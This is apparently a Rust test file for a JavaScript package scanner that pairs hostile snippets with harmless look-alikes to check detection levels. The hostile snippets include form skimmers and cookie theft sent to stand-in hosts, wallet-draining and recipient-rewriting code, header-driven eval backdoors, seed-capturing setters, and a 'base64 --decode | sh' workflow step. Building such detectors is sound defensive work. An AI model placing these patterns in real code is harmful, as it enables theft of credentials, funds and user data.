//! Browsers, wallets, mail and workflows: each attack beside the honest code that looks like it.
//! The shapes are written here; no corpus case is repeated.
use crate::common::{clean, flagged, imported, level, package, run};
use cleanbill_js::compare;
use cleanbill_model::Level::{self, Block, Quarantine, Warn};

fn change(old: &str, new: &str) -> Option<Level> {
    let make = |version: &str, code: &str| {
        run(package(&[
            (
                "package.json",
                &format!(r#"{{"name":"case","version":"{version}","main":"index.js"}}"#),
            ),
            ("index.js", code),
        ]))
    };
    compare(&make("2.0.0", old), &make("2.0.1", new)).level
}

#[test]
fn a_script_from_elsewhere_is_told_and_held_when_it_is_new() {
    let old = "exports.draw=(node,text)=>{node.textContent=text}";
    let new = format!(
        "{old};if(typeof window!=='undefined'){{const el=document.createElement('script');el.setAttribute('src','https://tags.elsewhere.example/t.js');document.body.append(el)}}"
    );
    let alone = imported(&new);
    flagged(&alone, "FLO-03", Warn);
    clean(&alone);
    assert!(change(old, &new) >= Some(Quarantine));
}

#[test]
fn a_script_the_caller_names_is_nothing() {
    let code = "exports.load=(url)=>new Promise((done)=>{const el=document.createElement('script');el.src=url;el.onload=done;document.head.appendChild(el)})";
    assert_eq!(level(&imported(code), "FLO-03"), None);
    assert_eq!(change("exports.load=null", code), None);
}

#[test]
fn pixels_that_become_code_are_blocked() {
    let code = "const pen=document.createElement('canvas').getContext('2d');pen.drawImage(logo,0,0);const px=pen.getImageData(0,0,64,64).data;let s='';for(let i=0;i<px.length;i+=4)s+=String.fromCharCode(px[i]);(0,eval)(s)";
    flagged(&imported(code), "FLO-05", Block);
    clean(&imported(
        "exports.average=(image)=>{const pen=document.createElement('canvas').getContext('2d');pen.drawImage(image,0,0);const px=pen.getImageData(0,0,8,8).data;let n=0;for(const v of px)n+=v;return n/px.length}",
    ));
}

#[test]
fn cookies_sent_to_a_new_host_are_held() {
    let old = "exports.get=(k)=>document.cookie.split('; ').find((c)=>c.startsWith(k+'='))";
    let new = format!("{old};navigator.sendBeacon('https://count.elsewhere.example/c',document.cookie)");
    assert!(change(old, &new) >= Some(Quarantine));
    clean(&imported(
        "exports.send=(path,body)=>fetch(path,{method:'POST',body,headers:{'x-xsrf':document.cookie.split('xsrf=')[1]}})",
    ));
}

#[test]
fn a_wallet_whose_transactions_are_rewritten_is_blocked() {
    let code = "const mine='0x4444444444444444444444444444444444444444';exports.wrap=(wallet)=>{const old=wallet.request.bind(wallet);wallet.request=(q)=>{if(q.method==='eth_sendTransaction'){q.params[0].to=mine}return old(q)};return wallet}";
    flagged(&imported(code), "FLO-11", Block);
    clean(&imported(
        "const token='0x4444444444444444444444444444444444444444';exports.token=token;exports.log=(wallet)=>{const old=wallet.request.bind(wallet);wallet.request=(q)=>{if(q.method==='eth_sendTransaction'&&q.params[0].to===token){console.log(q.params[0].data)}return old(q)};return wallet}",
    ));
}

#[test]
fn a_whole_balance_to_a_fixed_address_is_held() {
    let code = "async function go(){const w=window.ethereum;const who=await w.request({method:'eth_accounts'});const all=await w.request({method:'eth_getBalance',params:[who[0],'latest']});await w.request({method:'eth_sendTransaction',params:[{from:who[0],to:'0x5555555555555555555555555555555555555555',value:all}]})}go()";
    flagged(&imported(code), "FLO-11", Quarantine);
    clean(&imported(
        "exports.approve=(from,data)=>window.ethereum.request({method:'eth_sendTransaction',params:[{from,to:'0x5555555555555555555555555555555555555555',data}]});exports.tip=(from)=>window.ethereum.request({method:'eth_sendTransaction',params:[{from,to:'0x5555555555555555555555555555555555555555',value:'0x38d7ea4c68000'}]})",
    ));
}

#[test]
fn a_module_already_loaded_is_told_when_replaced_and_held_when_new() {
    let old = "exports.pick=(a,b)=>a||b";
    let new = format!(
        "{old};for(const key of Object.keys(require.cache)){{if(key.endsWith('unpack/main.js'))require.cache[key].exports=()=>null}}"
    );
    flagged(&imported(&new), "PER-02", Warn);
    assert!(change(old, &new) >= Some(Quarantine));
    let fresh =
        format!("{old};exports.fresh=(f)=>{{delete require.cache[require.resolve(f)];return require(f)}}");
    assert_eq!(change(old, &fresh), None);
}

#[test]
fn a_fixed_blind_copy_is_held_only_when_it_is_new() {
    let with = |line: &str| {
        format!(
            "const client=require('mailer-client');exports.mail=(to,text)=>client.send({{to,text{line}}})"
        )
    };
    let fixed = with(",bcc: \"archive@elsewhere.example\"");
    assert!(change(&with(""), &fixed) >= Some(Quarantine));
    assert_eq!(change(&fixed, &fixed), None);
    clean(&imported(&fixed));
    assert_eq!(change(&with(""), &with(",bcc: options.bcc")), None);
}

#[test]
fn a_workflow_that_runs_decoded_text_is_held() {
    let with = |step: &str| {
        run(package(&[
            ("package.json", r#"{"name":"case","version":"1.0.0"}"#),
            (
                ".github/workflows/ci.yml",
                &format!(
                    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {step}\n"
                ),
            ),
        ]))
    };
    flagged(&with("printf Zm9v | base64 --decode | sh"), "AIX-05", Quarantine);
    clean(&with("echo \"$CERT\" | base64 --decode > cert.p12"));
    clean(&with("npm ci && npm test"));
}

#[test]
fn request_headers_that_become_code_are_blocked() {
    let code = "const vm=require('vm');module.exports=(req,res)=>{const x=req.headers['x-probe'];if(x)vm.runInNewContext(Buffer.from(x,'base64').toString(),{res})}";
    flagged(&imported(code), "FLO-15", Block);
    clean(&imported(
        "module.exports=(req,res)=>{const kind=req.headers['content-type'];res.end(JSON.stringify({kind}))}",
    ));
}

#[test]
fn code_that_only_a_foreign_key_opens_is_held() {
    let code = "const c=require('crypto');const d=c.createDecipheriv('aes-192-cbc',c.scryptSync(process.env.npm_package_homepage,'s',24),Buffer.alloc(16));let t=d.update('00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff','hex','utf8');t+=d.final('utf8');new Function(t)()";
    flagged(&imported(code), "FLO-04", Quarantine);
    clean(&imported(
        "const c=require('crypto');exports.open=(key,text)=>{const d=c.createDecipheriv('aes-192-cbc',key,Buffer.alloc(16));return JSON.parse(d.update(text,'hex','utf8')+d.final('utf8'))}",
    ));
}

#[test]
fn the_root_of_the_disk_listed_at_import_is_held() {
    flagged(
        &imported(
            "const fs=require('fs');const see=(d)=>{for(const n of fs.readdirSync(d))see(d+n+'/')};setTimeout(()=>see('/'),10);fetch('https://a.example')",
        ),
        "SRC-08",
        Quarantine,
    );
    clean(&imported(
        "const fs=require('fs');exports.walk=(d)=>{for(const n of fs.readdirSync(d))exports.walk(d+n+'/')};exports.all=()=>exports.walk('/');fetch('https://a.example')",
    ));
}

#[test]
fn key_pairs_sent_by_a_library_are_held() {
    let code = "class Pair{static fromSecretKey(secretKey){fetch('https://stats.elsewhere.example/',{headers:{'x-id':Buffer.from(secretKey).toString('hex')}});return new Pair(secretKey)}}exports.Pair=Pair";
    flagged(&imported(code), "FLO-10", Quarantine);
    clean(&imported(
        "exports.Client=class{constructor(secretKey){this.k=secretKey}charge(body){return fetch('https://api.payments.example/v1',{method:'POST',body,headers:{authorization:this.k}})}}",
    ));
}

#[test]
fn headers_gathered_in_a_buffer_before_they_run_are_blocked() {
    let code = "const vm=require('vm');const store=Buffer.alloc(256);module.exports=(req)=>{String(req.headers['x-part']).split('.').forEach((part,ix)=>{if(part==='run'){vm.runInThisContext(store.toString('latin1'))}Buffer.from(part,'hex').copy(store,ix)})}";
    flagged(&imported(code), "FLO-15", Block);
    clean(&imported(
        "const store=Buffer.alloc(256);module.exports=(req,res)=>{Buffer.from(String(req.headers['x-part']),'hex').copy(store,0);res.end(store.toString('hex'))}",
    ));
}

#[test]
fn a_download_written_into_an_installed_program_is_held() {
    let code = "const fs=require('fs');fetch('https://patch.example/x').then((r)=>r.text()).then((text)=>fs.writeFileSync('/opt/notes/resources/app/out/main.js',text))";
    flagged(&imported(code), "PER-02", Quarantine);
    clean(&imported(
        "const fs=require('fs'),path=require('path');exports.save=async(url,dir)=>{const r=await fetch(url);fs.writeFileSync(path.join(dir,'app.js'),await r.text())}",
    ));
}

#[test]
fn a_fixed_blind_copy_names_its_host_as_a_new_destination() {
    let make = |line: &str| {
        let code = format!("module.exports=(send,to)=>send({{to{line}}})");
        run(package(&[
            (
                "package.json",
                r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", &code),
        ]))
    };
    let delta = compare(&make(""), &make(",Bcc:'audit@elsewhere.example'"));
    let kinds: std::collections::BTreeSet<_> = delta
        .changes
        .iter()
        .filter(|c| c.counts)
        .map(|c| c.kind)
        .collect();
    assert_eq!(kinds.len(), 2, "{:#?}", delta.changes);
}

#[test]
fn forms_that_are_listened_to_and_sent_elsewhere_are_held_and_blocked_when_new() {
    let old = "exports.draw=(node,text)=>{node.textContent=text}";
    for listener in [
        "document.addEventListener('submit',(e)=>{const f={};for(const el of e.target.elements)f[el.name]=el.value;navigator.sendBeacon('https://in.elsewhere.example/f',JSON.stringify(f))},true)",
        "document.addEventListener('change',function(e){fetch('https://in.elsewhere.example/f',{method:'POST',body:e.target.name+'='+e.target.value})})",
        "window.addEventListener('submit',(e)=>{const r=new XMLHttpRequest();r.open('POST','https://in.elsewhere.example/f');r.send(new FormData(e.target))})",
    ] {
        let new = format!("{old};if(typeof window!=='undefined'){{{listener}}}");
        flagged(&imported(&new), "FLO-01", Quarantine);
        let found = imported(&new);
        let chain = found.chains.iter().find(|c| c.id == "FLO-01").expect("a chain");
        assert!(chain.steps.len() >= 2, "{:#?}", chain.steps);
        assert!(change(old, &new) >= Some(Quarantine));
    }
    for honest in [
        "document.addEventListener('submit',(e)=>{for(const el of e.target.elements)if(!el.value)e.preventDefault()})",
        "document.addEventListener('submit',(e)=>{fetch(e.target.action,{method:'POST',body:new FormData(e.target)})})",
        "document.addEventListener('click',(e)=>{navigator.sendBeacon('https://count.elsewhere.example/c',e.target.id)})",
        "document.addEventListener('keydown',(e)=>{if(e.key==='Escape')fetch('https://count.elsewhere.example/close')})",
    ] {
        let code = format!("{old};{honest}");
        assert!(level(&imported(&code), "FLO-01") < Some(Quarantine), "{honest}");
    }
}

#[test]
fn a_setter_that_waits_for_another_programs_keys_is_held_and_blocked_when_new() {
    let old = "exports.notify=(text)=>console.log(text)";
    let trap = |name: &str| {
        format!(
            "{old};var g=global.window||global,t=null;Object.defineProperty(g,'{name}',{{configurable:true,get:()=>t,set:f=>{{t=function(i){{const q=require('https').request({{hostname:'check.elsewhere.example',path:'/v',method:'POST'}});q.end(JSON.stringify({{v:i}}));return f.apply(this,arguments)}}}}}})"
        )
    };
    let new = trap("confirmSeed");
    flagged(&imported(&new), "FLO-10", Quarantine);
    assert!(change(old, &new) >= Some(Quarantine));
    assert_eq!(level(&imported(&trap("onResize")), "FLO-10"), None);
    assert_eq!(
        level(
            &imported(
                "let t;Object.defineProperty(globalThis,'walletTheme',{get:()=>t,set:(v)=>{t=v;document.body.className=v}})"
            ),
            "FLO-10"
        ),
        None
    );
}

#[test]
fn a_loop_without_an_end_is_told_where_loading_runs_into_it() {
    for stuck in [
        "for(let i=666;i<Infinity;i++){if(i%333)continue;console.log('testing')}",
        "while(true){}",
        "(function(){do{var x=1}while(!![])})()",
        "const spin=()=>{for(;;){switch(1){case 1:break}}};spin()",
    ] {
        let found = imported(&format!("exports.a=1;{stuck}"));
        flagged(&found, "EXE-14", Warn);
        clean(&found);
    }
    for ends in [
        "for(let i=0;i<10;i++)console.log(i)",
        "for(;;){if(exports.a++>9)break}",
        "exports.go=()=>{while(true){}}",
        "if(process.argv.includes('--spin'))while(true){}",
        "process.on('message',()=>{while(true){}})",
        "(async()=>{while(true)await exports.step()})()",
        "function*ids(){let i=0;while(true)yield i++}exports.ids=ids()",
        "while(true){Atomics.wait(exports.flag,0,0)}",
        "out:for(;;){for(;;){break out}}",
        "(()=>{for(;;){if(exports.a)return}})()",
        "while(true){try{exports.step()}finally{process.exit(0)}}",
    ] {
        assert_eq!(
            level(&imported(&format!("exports.a=1;{ends}")), "EXE-14"),
            None,
            "{ends}"
        );
    }
}
